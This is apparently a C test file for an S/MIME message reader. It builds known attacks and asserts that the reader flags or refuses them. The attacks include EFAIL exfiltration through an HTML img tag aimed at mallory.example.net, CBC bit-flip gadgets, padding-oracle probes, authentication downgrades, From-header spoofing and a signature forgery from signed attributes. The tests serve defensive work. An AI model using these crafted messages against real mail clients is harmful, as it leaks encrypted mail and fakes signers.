/* SPDX-License-Identifier: Apache-2.0 */
/* Copyright the Signet authors */

/* What is known to fool readers of S/MIME: doc/smime-security.md names each attack and its test
 * here; bounds_test.c has those that make work. */

#include "smime/read.h"

#include "base/alloc.h"
#include "base/enc.h"
#include "base/test.h"
#include "smime/cms.h"
#include "smime/decrypt.h"
#include "smime/smime_fixture.h"

#include <openssl/evp.h>

static struct people people;

#define HELLO      SPAN("Content-Type: text/plain\r\n\r\nHello, Bob.\r\n")
#define FROM_ALICE "From: Alice <alice@example.org>\r\nSubject: Hello\r\n"

static int setup(void **state)
{
	(void)state;
	people_make(&people);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	people_done(&people);
	return 0;
}

/* The status of a message, which is never a verified one. */
static enum smime_status status_of(const struct buf *message, const char *note)
{
	struct smime_result result = people_read(&people, message);
	enum smime_status status = result.report.status;

	assert_false(smime_report_is_verified(&result.report));
	if (note)
		assert_true(fixture_has_note(&result.report, note));
	smime_result_done(&result);
	return status;
}

static void encrypt_for_bob(struct span entity, const EVP_CIPHER *cipher, struct buf *out)
{
	const struct cert_made *const to[] = { &people.bob };

	fixture_encrypt(entity, cipher, to, 1, 0, out);
}

/* EFAIL. */

static void efail_direct_exfiltration(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	buf_add_string(&m, FROM_ALICE "Content-Type: multipart/mixed; boundary=x\r\n\r\n"
				      "--x\r\nContent-Type: text/html\r\n\r\n"
				      "<img src=\"http://mallory.example.net/\r\n--x\r\n");
	encrypt_for_bob(HELLO, EVP_aes_256_cbc(), &m);
	buf_add_string(&m, "--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n");
	result = people_read(&people, &m);
	/* The message itself is not encrypted, and what is in the part stays in an entity of its
	 * own. */
	assert_int_equal(result.report.status, SMIME_STATUS_NONE);
	assert_false(result.report.is_encrypted);
	assert_null(smime_payload(&result).p);
	assert_true(fixture_has_note(&result.report, "partly-encrypted"));
	assert_int_equal(result.report.n_layers, 1);
	assert_true(result.report.layers[0].is_errant);
	assert_string_equal(result.report.layers[0].part, "2");
	assert_true(span_equal(smime_layer_entity(&result, 0), HELLO));
	smime_result_done(&result);
}

/* A block changed in CBC mode: it opens, and is said to be unauthenticated. */
static void efail_cbc_gadget(void **state)
{
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	encrypt_for_bob(
		SPAN("Content-Type: text/plain\r\n\r\n0123456789012345678901234567890123456789"
		     "0123456789012345678901234567890123456789\r\n"),
		EVP_aes_256_cbc(), &entity);
	fixture_unwrap(buf_span(&entity), &der);
	der.p[der.end - 60] ^= 1;
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&der), &m);
	result = people_read(&people, &m);
	assert_int_equal(result.report.status, SMIME_STATUS_ENCRYPTED);
	assert_false(result.report.is_authenticated);
	assert_true(fixture_has_note(&result.report, "unauthenticated"));
	smime_result_done(&result);
}

/* The same with a tag: nothing comes out, and the reason is that of any failure. */
static void changed_ciphertext_is_not_released(void **state)
{
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	encrypt_for_bob(HELLO, EVP_aes_256_gcm(), &entity);
	fixture_unwrap(buf_span(&entity), &der);
	der.p[der.end - 30] ^= 1;
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&der), &m);
	result = people_read(&people, &m);
	assert_int_equal(result.report.status, SMIME_STATUS_UNREADABLE);
	assert_int_equal(result.report.layers[0].state, SMIME_FAILED);
	assert_null(smime_layer_entity(&result, 0).p);
	smime_result_done(&result);
}

/* Bleichenbacher, Vaudenay: a wrong key, a wrong padding of the key and a wrong padding of the
 * content all look the same. */
static void no_oracle(void **state)
{
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf der = {};
	char *reason = NULL;
	size_t places[3];

	(void)state;
	encrypt_for_bob(HELLO, EVP_aes_256_cbc(), &entity);
	fixture_unwrap(buf_span(&entity), &der);
	places[0] = der.end - 1;   /* the last block of the content: its padding */
	places[1] = der.end - 150; /* in the encrypted key */
	places[2] = der.end - 250;
	for (size_t i = 0; i < 3; i++) {
		CLEANUP(buf_done) struct buf m = {};
		struct smime_result result;

		der.p[places[i]] ^= 1;
		buf_add_string(&m, FROM_ALICE);
		fixture_wrap(buf_span(&der), &m);
		der.p[places[i]] ^= 1;
		result = people_read(&people, &m);
		/* A random key gives a sound padding once in 256 times, and then nonsense. */
		if (result.report.layers[0].state != SMIME_OPEN) {
			assert_int_equal(result.report.layers[0].state, SMIME_FAILED);
			if (reason)
				assert_string_equal(reason, result.report.layers[0].reason);
			else
				reason = strdup(result.report.layers[0].reason);
		}
		smime_result_done(&result);
	}
	free(reason);
}

/* How an object opens if it says that it is (or is not) authenticated: what rewriting it, with all
 * lengths and parameters right, comes to. tag: how many octets of it are left. */
static void assert_refused(const struct buf *der, bool as_authenticated, size_t tag,
	const char *reason)
{
	const struct smime_key bobs_key = { people.bob.cert, people.bob.key, NULL };
	const struct smime_request q = { .keys = &bobs_key, .n_keys = 1 };
	CLEANUP(secret_buf_done) struct secret_buf out = { .max = 1 << 20 };
	struct smime_report report = { .layers = alloc_zero(sizeof *report.layers), .n_layers = 1 };
	struct cms cms;

	assert_int_equal(cms_parse(buf_span(der), &cms, NULL), 0);
	cms.enveloped.tag = span_head(cms.enveloped.tag, tag);
	assert_int_equal(
		decrypt_enveloped(&q, &cms.enveloped, as_authenticated, &report.layers[0], &out),
		0);
	if (reason) {
		assert_int_equal(report.layers[0].state, SMIME_MALFORMED);
		assert_non_null(strstr(report.layers[0].reason, reason));
		assert_int_equal(secret_buf_span(&out).n, 0);
	} else {
		assert_int_equal(report.layers[0].state, SMIME_OPEN);
	}
	cms_done(&cms);
	smime_report_done(&report);
}

/* AuthEnvelopedData rewritten as EnvelopedData, so that nobody looks at a tag, and the other way
 * round. */
static void downgrade_of_authentication(void **state)
{
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf gcm = {};
	CLEANUP(buf_done) struct buf cbc = {};

	(void)state;
	encrypt_for_bob(HELLO, EVP_aes_256_gcm(), &entity);
	fixture_unwrap(buf_span(&entity), &gcm);
	assert_refused(&gcm, true, 16, NULL);
	assert_refused(&gcm, false, 16, "rewritten");
	buf_clear(&entity);
	encrypt_for_bob(HELLO, EVP_aes_256_cbc(), &entity);
	fixture_unwrap(buf_span(&entity), &cbc);
	assert_refused(&cbc, false, 0, NULL);
	assert_refused(&cbc, true, 0, "rewritten");
}

/* A tag of one octet is guessed with 128 messages. */
static void short_tag(void **state)
{
	static const size_t sizes[] = { 0, 1, 12, 15 };
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf der = {};

	(void)state;
	encrypt_for_bob(HELLO, EVP_aes_256_gcm(), &entity);
	fixture_unwrap(buf_span(&entity), &der);
	for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++)
		assert_refused(&der, true, sizes[i], "tag");
}

/* The content's algorithm is called another one, whose parameters these are not. */
static void other_algorithm(void **state)
{
	static const uint8_t gcm[] = "\x60\x86\x48\x01\x65\x03\x04\x01\x2e";
	static const uint8_t cbc[] = "\x60\x86\x48\x01\x65\x03\x04\x01\x2a";

	(void)state;
	for (int is_gcm = 0; is_gcm < 2; is_gcm++) {
		CLEANUP(buf_done) struct buf entity = {};
		CLEANUP(buf_done) struct buf der = {};
		CLEANUP(buf_done) struct buf m = {};
		size_t at;

		encrypt_for_bob(HELLO, is_gcm ? EVP_aes_256_gcm() : EVP_aes_256_cbc(), &entity);
		fixture_unwrap(buf_span(&entity), &der);
		at = span_find_span(buf_span(&der), span_of(is_gcm ? gcm : cbc, 9));
		assert_true(at < buf_size(&der));
		memcpy(der.p + at, is_gcm ? cbc : gcm, 9);
		buf_add_string(&m, FROM_ALICE);
		fixture_wrap(buf_span(&der), &m);
		assert_int_equal(status_of(&m, NULL), SMIME_STATUS_UNREADABLE);
	}
}

/* Covert content: a foreign ciphertext in a harmless message, to be answered with its text. */
static void covert_content(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	CLEANUP(buf_done) struct buf inner = {};
	struct smime_result result;

	(void)state;
	buf_add_string(&inner,
		"Content-Type: multipart/mixed; boundary=x\r\n\r\n"
		"--x\r\nContent-Type: text/plain\r\n\r\nWhat do you think?\r\n--x\r\n");
	encrypt_for_bob(HELLO, EVP_aes_256_gcm(), &inner);
	buf_add_string(&inner, "--x--\r\n");
	/* The signature of whoever sends it does not make it one. */
	buf_add_string(&m, "From: mallory@example.net\r\n");
	fixture_sign(buf_span(&inner), &people.mallory, 0, &m);
	result = people_read(&people, &m);
	assert_int_equal(result.report.status, SMIME_STATUS_SIGNED);
	assert_int_equal(result.report.n_envelope, 1);
	assert_false(result.report.is_encrypted);
	assert_true(fixture_has_note(&result.report, "partly-encrypted"));
	assert_true(result.report.layers[1].is_errant);
	assert_int_equal(result.report.layers[1].parent, 0);
	smime_result_done(&result);
}

/* "Johnny, you are fired". */

static void partly_signed(void **state)
{
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	buf_add_string(&m,
		FROM_ALICE "Content-Type: multipart/mixed; boundary=x\r\n\r\n"
			   "--x\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--x\r\n");
	fixture_sign(HELLO, &people.alice, FIXTURE_DETACHED, &m);
	buf_add_string(&m, "--x--\r\n");
	assert_int_equal(status_of(&m, "partly-signed"), SMIME_STATUS_NONE);
}

static void signed_attachment(void **state)
{
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	buf_add_string(&m,
		FROM_ALICE "Content-Type: multipart/mixed; boundary=x\r\n\r\n"
			   "--x\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--x\r\n"
			   "Content-Disposition: attachment; filename=smime.p7m\r\n");
	fixture_sign(HELLO, &people.alice, 0, &m);
	buf_add_string(&m, "--x--\r\n");
	assert_int_equal(status_of(&m, "partly-signed"), SMIME_STATUS_NONE);
}

/* A whole signed message of Alice's, attached to one of Mallory's that says it is from Alice. */
static void foreign_signature_in_attached_message(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	buf_add_string(&m,
		FROM_ALICE "Content-Type: multipart/mixed; boundary=x\r\n\r\n"
			   "--x\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--x\r\n"
			   "Content-Type: message/rfc822\r\n\r\n" FROM_ALICE);
	fixture_sign(HELLO, &people.alice, FIXTURE_DETACHED, &m);
	buf_add_string(&m, "--x--\r\n");
	result = people_read(&people, &m);
	assert_int_equal(result.report.status, SMIME_STATUS_NONE);
	assert_int_equal(result.report.layers[0].signers[0].verdict, SMIME_SIGNER_OK);
	assert_string_equal(result.report.layers[0].part, "2");
	smime_result_done(&result);
}

static void several_authors(void **state)
{
	static const char *const headers[] = {
		/* the signer is not the one who is shown */
		"From: alice@example.org, mallory@example.net\r\n",
		"From: mallory@example.net, alice@example.org\r\n",
		/* which of two fields is shown */
		"From: alice@example.org\r\nFrom: mallory@example.net\r\n",
		"From: mallory@example.net\r\nFrom: mallory@example.net\r\n",
		"From: mallory@example.net\r\nfrom: alice@example.org\r\n",
		/* nobody, a group of nobody, and what is no address */
		"Subject: x\r\n",
		"From: Friends:;\r\n",
		"From: mallory@example.net, alice\r\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof headers / sizeof headers[0]; i++) {
		CLEANUP(buf_done) struct buf m = {};

		buf_add_string(&m, headers[i]);
		fixture_sign(HELLO, &people.mallory, FIXTURE_DETACHED, &m);
		assert_int_equal(status_of(&m, NULL), SMIME_STATUS_NOT_VERIFIED);
	}
}

static void foreign_signer(void **state)
{
	static const char *const headers[] = {
		FROM_ALICE,
		FROM_ALICE "Sender: mallory@example.net\r\n",
		"From: \"mallory@example.net\" <alice@example.org>\r\n",
		"From: mallory@example.net <alice@example.org>\r\n",
		"From: alice@example.org (mallory@example.net)\r\n",
		"From: =?utf-8?q?mallory=40example=2Enet?= <alice@example.org>\r\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof headers / sizeof headers[0]; i++) {
		CLEANUP(buf_done) struct buf m = {};

		buf_add_string(&m, headers[i]);
		fixture_sign(HELLO, &people.mallory, FIXTURE_DETACHED, &m);
		assert_int_equal(status_of(&m, NULL), SMIME_STATUS_NOT_VERIFIED);
	}
}

/* The name that is shown is the address that is not meant. */
static void name_like_an_address(void **state)
{
	static const char *const headers[] = {
		"From: \"alice@example.org\" <mallory@example.net>\r\n",
		"From: \"Alice <alice@example.org>\" <mallory@example.net>\r\n",
		"From: =?utf-8?q?alice=40example=2Eorg?= <mallory@example.net>\r\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof headers / sizeof headers[0]; i++) {
		CLEANUP(buf_done) struct buf m = {};
		struct smime_result result;

		buf_add_string(&m, headers[i]);
		fixture_sign(HELLO, &people.mallory, FIXTURE_DETACHED, &m);
		result = people_read(&people, &m);
		assert_true(fixture_has_note(&result.report, "display-name"));
		smime_result_done(&result);
	}
}

/* Something before, between or behind the two parts. */
static void third_part(void **state)
{
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	fixture_sign_der(HELLO, &people.alice, FIXTURE_DETACHED, &der);
	buf_add_string(&m, FROM_ALICE "Content-Type: multipart/signed; boundary=sig;\r\n"
				      " protocol=\"application/pkcs7-signature\"\r\n\r\n--sig\r\n");
	buf_add(&m, HELLO);
	buf_add_string(&m, "\r\n--sig\r\nContent-Type: application/pkcs7-signature\r\n"
			   "Content-Transfer-Encoding: base64\r\n\r\n");
	enc_base64(&m, buf_span(&der));
	buf_add_string(&m,
		"\r\n--sig\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n--sig--\r\n");
	result = people_read(&people, &m);
	assert_int_equal(result.report.status, SMIME_STATUS_NOT_VERIFIED);
	assert_int_equal(result.report.layers[0].state, SMIME_MALFORMED);
	assert_int_equal(result.report.layers[0].n_signers, 0);
	smime_result_done(&result);
}

/* The preamble and the epilogue of a signed multipart are in no part: the payload does not have
 * them. */
static void text_around_parts(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	CLEANUP(buf_done) struct buf entity = {};
	struct span head;
	struct smime_result result;

	(void)state;
	fixture_sign(HELLO, &people.alice, FIXTURE_DETACHED, &entity);
	head = span_head(buf_span(&entity), span_find_span(buf_span(&entity), SPAN("--sig")));
	buf_add_string(&m, FROM_ALICE);
	buf_add(&m, head);
	buf_add_string(&m, "Pay Mallory.\r\n");
	buf_add(&m, span_skip(buf_span(&entity), head.n));
	buf_add_string(&m, "Pay Mallory.\r\n");
	result = people_read(&people, &m);
	assert_int_equal(result.report.status, SMIME_STATUS_SIGNED);
	assert_true(span_equal(smime_payload(&result), HELLO));
	smime_result_done(&result);
}

/* A header that is read in two ways: by the first or by the last of its fields or parameters. */
static void content_type_confusion(void **state)
{
	static const char *const more[] = {
		"Content-Type: text/plain\r\n",
		"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: 7bit\r\n",
	};
	CLEANUP(buf_done) struct buf entity = {};
	CLEANUP(buf_done) struct buf m = {};
	size_t at;

	(void)state;
	fixture_sign(HELLO, &people.alice, FIXTURE_DETACHED, &entity);
	for (size_t i = 0; i < sizeof more / sizeof more[0]; i++) {
		buf_clear(&m);
		buf_add_string(&m, FROM_ALICE);
		at = span_find_span(buf_span(&entity), SPAN("\r\n\r\n")) + 2;
		buf_add(&m, span_head(buf_span(&entity), at));
		buf_add_string(&m, more[i]);
		buf_add(&m, span_skip(buf_span(&entity), at));
		assert_in_set(status_of(&m, NULL),
			((unsigned long[]){ SMIME_STATUS_UNREADABLE, SMIME_STATUS_NONE }), 2);
	}
	buf_clear(&m);
	buf_add_string(&m, FROM_ALICE);
	at = span_find_span(buf_span(&entity), SPAN("boundary=sig;"));
	buf_add(&m, span_head(buf_span(&entity), at));
	buf_add_string(&m, "boundary=sig; boundary=other;");
	buf_add(&m, span_skip(buf_span(&entity), at + strlen("boundary=sig;")));
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_UNREADABLE);
}

/* A detached signature that brings another content along, which it is a signature of. */
static void content_in_detached_signature(void **state)
{
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	fixture_sign_der(HELLO, &people.alice, 0, &der);
	buf_add_string(&m, FROM_ALICE);
	fixture_multipart(SPAN("Content-Type: text/plain\r\n\r\nPay Mallory.\r\n"), buf_span(&der),
		&m);
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_NOT_VERIFIED);
	/* Even if it is the same content. */
	buf_clear(&m);
	buf_add_string(&m, FROM_ALICE);
	fixture_multipart(HELLO, buf_span(&der), &m);
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_NOT_VERIFIED);
}

static void signature_without_content(void **state)
{
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	fixture_sign_der(HELLO, &people.alice, FIXTURE_DETACHED, &der);
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&der), &m);
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_UNREADABLE);
}

/* SignedData by nobody: the SET of signers is the last of it and is emptied. */
static void no_signers(void **state)
{
	/* version 1, no digests, id-data with "x: y\n\nz", no signers */
	static const uint8_t der[] = "\x30\x2c\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02"
				     "\xa0\x1f\x30\x1d\x02\x01\x01\x31\x00\x30\x14\x06\x09"
				     "\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\xa0\x07\x04\x05"
				     "a: b\n\x31\x00";
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(span_of(der, sizeof der - 1), &m);
	assert_int_equal(status_of(&m, "no-signer"), SMIME_STATUS_NOT_VERIFIED);
	buf_clear(&m);
	buf_add_string(&m, FROM_ALICE);
	fixture_multipart(SPAN("a: b\n"), span_of(der, sizeof der - 1), &m);
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_NOT_VERIFIED);
}

/* Nothing, a header alone, and one without the empty line: the signature is over what is there. */
static void empty_signed_part(void **state)
{
	static const char *const parts[] = { "", "\r\n", "Content-Type: text/plain",
		"Content-Type: text/plain\r\n", "Content-Type: text/plain\r\n\r\n" };

	(void)state;
	for (size_t i = 0; i < sizeof parts / sizeof parts[0]; i++) {
		CLEANUP(buf_done) struct buf m = {};
		struct smime_result result;

		buf_add_string(&m, FROM_ALICE);
		fixture_sign(span_str(parts[i]), &people.alice, FIXTURE_DETACHED, &m);
		result = people_read(&people, &m);
		assert_int_equal(result.report.status, SMIME_STATUS_SIGNED);
		assert_true(span_equal(smime_payload(&result), span_str(parts[i])));
		smime_result_done(&result);
	}
}

/* The attributes that Alice signed, shown as a content that she signed without attributes. */
static void attributes_as_content(void **state)
{
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf forged = {};
	CLEANUP(buf_done) struct buf m = {};
	CLEANUP(cms_done) struct cms cms = {};
	const struct cms_signer *signer;
	struct smime_result result;

	(void)state;
	fixture_sign_der(HELLO, &people.alice, FIXTURE_DETACHED, &der);
	assert_int_equal(cms_parse(buf_span(&der), &cms, NULL), 0);
	signer = &cms.signed_data.signers[0];
	/* A bare signature of hers, with the attributes as its content and the other's octets. */
	{
		CLEANUP(buf_done) struct buf content = {};
		CLEANUP(cms_done) struct cms bare = {};
		struct span at;

		buf_add_octet(&content, 0x31);
		assert_in_range(signer->attributes.n, 0x80, 0xff);
		buf_add_octet(&content, 0x81);
		buf_add_octet(&content, (uint8_t)signer->attributes.n);
		buf_add(&content, signer->attributes);
		for (size_t tries = 0;; tries++) { /* signatures of the same length */
			buf_clear(&forged);
			cms_done(&bare);
			fixture_sign_der(buf_span(&content), &people.alice, FIXTURE_NO_ATTRIBUTES,
				&forged);
			assert_int_equal(cms_parse(buf_span(&forged), &bare, NULL), 0);
			if (bare.signed_data.signers[0].signature.n == signer->signature.n)
				break;
			assert_in_range(tries, 0, 1000);
		}
		at = bare.signed_data.signers[0].signature;
		memcpy(forged.p + (at.p - forged.p), signer->signature.p, at.n);
	}
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&forged), &m);
	result = people_read(&people, &m);
	assert_int_equal(result.report.layers[0].signers[0].verdict, SMIME_SIGNER_INVALID);
	assert_int_equal(result.report.status, SMIME_STATUS_NOT_VERIFIED);
	smime_result_done(&result);
}

/* Two signatures around each other: the outer one, of a list or of Mallory, does not take the inner
 * one's place, and the other way round. */
static void two_signatures(void **state)
{
	CLEANUP(buf_done) struct buf inner = {};
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	fixture_sign(HELLO, &people.alice, FIXTURE_DETACHED, &inner);
	buf_add_string(&m, FROM_ALICE);
	fixture_sign(buf_span(&inner), &people.mallory, 0, &m);
	result = people_read(&people, &m);
	assert_int_equal(result.report.status, SMIME_STATUS_SIGNED);
	assert_int_equal(result.report.layers[0].signers[0].verdict, SMIME_SIGNER_ADDRESS_MISMATCH);
	assert_int_equal(result.report.layers[1].signers[0].verdict, SMIME_SIGNER_OK);
	assert_false(smime_report_is_verified(&result.report));
	smime_result_done(&result);
	/* Mallory signs what Alice signed, as Mallory's own. */
	buf_clear(&m);
	buf_add_string(&m, "From: mallory@example.net\r\n");
	fixture_sign(buf_span(&inner), &people.mallory, 0, &m);
	result = people_read(&people, &m);
	assert_int_equal(result.report.layers[1].signers[0].verdict, SMIME_SIGNER_ADDRESS_MISMATCH);
	assert_false(smime_report_is_verified(&result.report));
	smime_result_done(&result);
}

/* A signature around somebody else's ciphertext. */
static void signed_ciphertext(void **state)
{
	CLEANUP(buf_done) struct buf inner = {};
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	encrypt_for_bob(HELLO, EVP_aes_256_gcm(), &inner);
	buf_add_string(&m, "From: mallory@example.net\r\n");
	fixture_sign(buf_span(&inner), &people.mallory, 0, &m);
	assert_int_equal(status_of(&m, "signed-outside"), SMIME_STATUS_NOT_VERIFIED);
}

/* The signing time is Alice's word, the date the postman's. */
static void old_signature_with_new_date(void **state)
{
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;

	(void)state;
	buf_add_string(&m, FROM_ALICE "Date: Tue, 03 Feb 2015 04:05:06 +0000\r\n");
	fixture_sign(HELLO, &people.alice, 0, &m);
	result = people_read(&people, &m);
	assert_true(fixture_has_note(&result.report, "date"));
	smime_result_done(&result);
}

/* What stands behind the object would be in nobody's signature. */
static void trailing_octets(void **state)
{
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	fixture_sign_der(HELLO, &people.alice, 0, &der);
	buf_add(&der, SPAN("\0\0"));
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&der), &m);
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_UNREADABLE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(efail_direct_exfiltration),
		cmocka_unit_test(efail_cbc_gadget),
		cmocka_unit_test(changed_ciphertext_is_not_released),
		cmocka_unit_test(no_oracle),
		cmocka_unit_test(downgrade_of_authentication),
		cmocka_unit_test(short_tag),
		cmocka_unit_test(other_algorithm),
		cmocka_unit_test(covert_content),
		cmocka_unit_test(partly_signed),
		cmocka_unit_test(signed_attachment),
		cmocka_unit_test(foreign_signature_in_attached_message),
		cmocka_unit_test(several_authors),
		cmocka_unit_test(foreign_signer),
		cmocka_unit_test(name_like_an_address),
		cmocka_unit_test(third_part),
		cmocka_unit_test(text_around_parts),
		cmocka_unit_test(content_type_confusion),
		cmocka_unit_test(content_in_detached_signature),
		cmocka_unit_test(signature_without_content),
		cmocka_unit_test(no_signers),
		cmocka_unit_test(empty_signed_part),
		cmocka_unit_test(attributes_as_content),
		cmocka_unit_test(two_signatures),
		cmocka_unit_test(signed_ciphertext),
		cmocka_unit_test(old_signature_with_new_date),
		cmocka_unit_test(trailing_octets),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, setup, teardown);
}
